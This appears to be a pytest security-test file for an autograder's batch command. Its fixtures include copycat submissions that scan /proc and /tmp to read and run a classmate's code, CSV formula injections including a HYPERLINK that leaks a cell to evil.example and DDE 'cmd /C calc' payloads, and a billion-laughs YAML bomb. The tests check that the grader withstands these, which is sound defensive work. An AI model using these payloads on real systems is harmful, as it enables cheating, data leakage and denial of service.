"""Attacks on ``grader batch``: a student reading a classmate, spreadsheet formulas, a YAML bomb.

Each runs the real command line on an export that anyone could read (as an
unzipped export usually is), and checks the honest neighbour's exact score.
"""

from __future__ import annotations

import contextlib
import csv
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from tests.attacks.test_attacks import HONEST, PROJECT, ROOT_USER

pytestmark = [
    pytest.mark.attack, pytest.mark.slow,
    pytest.mark.skipif(not ROOT_USER, reason="the sandbox accounts exist only when grading as root"),
]
MARK = "# COPYCAT-MARK\n"
COPY_FROM_EXPORT = MARK + '''
import glob as _glob
import os as _os


def _steal():
    exports = []
    for _cmd in _glob.glob("/proc/*/cmdline"):
        try:
            _args = open(_cmd, "rb").read().split(b"\\0")
        except OSError:
            continue
        if b"batch" in _args and _args.index(b"batch") + 1 < len(_args):
            exports.append(_args[_args.index(b"batch") + 1].decode(errors="replace"))
    patterns = [_os.path.join(e, "*", "*.py") for e in exports] + [_os.path.join(e, "*.py") for e in exports]
    patterns += ["/tmp/*/export/*/*.py", "/tmp/*/export/*.py", "/tmp/grader-stage-*/*/*.py",
                 "/tmp/grader-stage-*/*.py", "/tmp/grader-sandbox-*/submission/*.py"]
    print("exports seen:", exports)
    for _pattern in patterns:
        for _path in sorted(_glob.glob(_pattern)):
            try:
                _source = open(_path).read()
            except OSError as _exc:
                print("not readable:", _path, type(_exc).__name__)
                continue
            if "COPYCAT-MARK" not in _source and "p1a_output" in _source:
                return _source
    return None


_stolen = _steal()
if _stolen:
    exec(compile(_stolen, "stolen", "exec"), globals())
'''
COPY_FROM_NEIGHBOURS = MARK + '''
import glob as _glob

for _path in sorted(_glob.glob("*.py")) + sorted(_glob.glob("*/*.py")):
    _source = open(_path).read()
    if "COPYCAT-MARK" not in _source and "p1a_output" in _source:
        exec(compile(_source, _path, "exec"), globals())
        break
'''
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B3,"Ada")'
METADATA = f"""\
submission_201:
  :submitters:
  - :name: '{HYPERLINK.replace("'", "''")}'
    :sid: '-1001'
    :email: '@SUM(1+1)*cmd|"/C calc"!A0'
submission_202:
  :submitters:
  - :name: "+cmd|' /C calc'!A0"
    :sid: '1002'
    :email: "\\tmallory@example.edu"
"""
LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{level}: &{level} [{', '.join([f'*{previous}'] * 9)}]\n"
    for previous, level in zip("abcdefgh", "bcdefghi", strict=True)
) + "submission_301:\n  :submitters:\n  - :name: *i\n    :sid: *i\n"
"""The billion laughs: nine levels of nine aliases each, 9**9 strings when expanded."""


def _export(base: Path, entries: dict[str, str], metadata: str) -> Path:
    """An export as unzip leaves it: folders 0755, files 0644, under a folder anyone may pass."""
    export = base / "export"
    export.mkdir()
    for name, code in entries.items():
        path = export / name if name.endswith(".py") else export / name / "hw4.py"
        path.parent.mkdir(exist_ok=True)
        path.write_text(code, encoding="utf-8")
    (export / "submission_metadata.yml").write_text(metadata, encoding="utf-8")
    for path in [base, *export.rglob("*"), export]:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)
    return export


def _batch(export: Path, csv_path: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GRADER_")}
    return subprocess.run(
        [sys.executable, "-m", "grader", "batch", str(export), "--csv", str(csv_path), "-j", "2", "-q"],
        capture_output=True, text=True, timeout=600, env=env, cwd=PROJECT, check=False,
    )


def _rows(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="") as handle:
        return {row["id"]: row for row in csv.DictReader(handle)}


@pytest.fixture
def base():
    folder = Path(tempfile.mkdtemp(prefix="batch-attack-"))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def test_a_copycat_reads_no_classmate_and_formulas_stay_text(base):
    honest = HONEST.read_text(encoding="utf-8")
    export = _export(base, {
        "submission_201": honest, "submission_202": COPY_FROM_EXPORT,
        "alice.py": honest, "mallory.py": COPY_FROM_NEIGHBOURS,
    }, METADATA)
    proc = _batch(export, base / "grades.csv")
    assert proc.returncode == 0, proc.stderr
    rows = _rows(base / "grades.csv")
    assert {k: r["total"] for k, r in rows.items()} == {"201": "100", "202": "0", "alice": "100", "mallory": "0"}
    assert (rows["201"]["name"], rows["201"]["email"], rows["201"]["sid"]) == (
        "'" + HYPERLINK, "'@SUM(1+1)*cmd|\"/C calc\"!A0", "-1001")
    assert (rows["202"]["name"], rows["202"]["email"]) == ("'+cmd|' /C calc'!A0", "'\tmallory@example.edu")
    assert stat.S_IMODE(export.stat().st_mode) == 0o755, "the export's mode was not restored"
    assert stat.S_IMODE((base / "grades.csv").stat().st_mode) == 0o600
    assert stat.S_IMODE((base / "grades_results").stat().st_mode) == 0o700
    for name in ("submission_201", "submission_202", "alice.py", "mallory.py"):
        assert not list(Path(tempfile.gettempdir()).glob(f"grader-stage-*/{name}")), "a staged copy was left"


def test_a_yaml_bomb_costs_only_the_names(base):
    export = _export(base, {"submission_301": HONEST.read_text(encoding="utf-8")}, LAUGHS)
    started = time.monotonic()
    proc = _batch(export, base / "grades.csv")
    assert proc.returncode == 0, proc.stderr
    assert time.monotonic() - started < 300
    warnings = [line for line in proc.stderr.splitlines() if line.startswith("warning:")]
    assert warnings == [f"warning: {export / 'submission_metadata.yml'} was not read (more than 20 YAML aliases); "
                        "names are left empty"]
    row = _rows(base / "grades.csv")["301"]
    assert (row["total"], row["name"], row["sid"]) == ("100", "", "")


COPY_FROM_WIDE_OPEN = MARK + '''
import glob as _glob

for _path in sorted(_glob.glob(EXPORT + "/*/*.py")) + sorted(_glob.glob(MIRROR + "/*.py")):
    try:
        _source = open(_path).read()
    except OSError:
        continue
    if "COPYCAT-MARK" not in _source and "p1a_output" in _source:
        exec(compile(_source, _path, "exec"), globals())
        break
'''


def _keep_wide_open(paths: list[Path], stop: threading.Event) -> None:
    """Undo the batch's lock of the export all along: only namespaces can hide it then."""
    while not stop.wait(0.02):
        for path in paths:
            with contextlib.suppress(OSError):
                os.chmod(path, 0o777 if path.is_dir() else 0o666)


@pytest.mark.parametrize("wanted", ["auto", "off"])
def test_in_namespaces_a_copycat_reads_no_classmate_even_from_a_wide_open_export(base, wanted):
    from grader.sandbox import namespaces

    if wanted == "auto" and not namespaces.can_enter():
        pytest.skip("this kernel refuses new mount namespaces to root: the account's permissions alone")
    honest = HONEST.read_text(encoding="utf-8")
    mirror = base / "mirror"
    mirror.mkdir()
    (mirror / "copy.py").write_text(honest, encoding="utf-8")
    copycat = f"EXPORT = {str(base / 'export')!r}\nMIRROR = {str(mirror)!r}\n" + COPY_FROM_WIDE_OPEN
    export = _export(base, {"submission_201": honest, "submission_202": copycat}, METADATA)
    wide = [export, *export.rglob("*"), mirror, mirror / "copy.py"]
    for path in wide:
        os.chmod(path, 0o777 if path.is_dir() else 0o666)
    stop = threading.Event()
    opener = threading.Thread(target=_keep_wide_open, args=(wide, stop), daemon=True)
    opener.start()
    env = {**{k: v for k, v in os.environ.items() if not k.startswith("GRADER_")}, "GRADER_NAMESPACES": wanted}
    try:
        proc = subprocess.run(
            [sys.executable, "-m", "grader", "batch", str(export), "--csv", str(base / "grades.csv"), "-j", "2",
             "-q"], capture_output=True, text=True, timeout=600, env=env, cwd=PROJECT, check=False,
        )
    finally:
        stop.set()
        opener.join()
    assert proc.returncode == 0, proc.stderr
    totals = {k: r["total"] for k, r in _rows(base / "grades.csv").items()}
    # with namespaces neither folder is in the child's view; without, a folder opened wide is open to the account
    assert totals == {"201": "100", "202": "0" if wanted == "auto" else "100"}
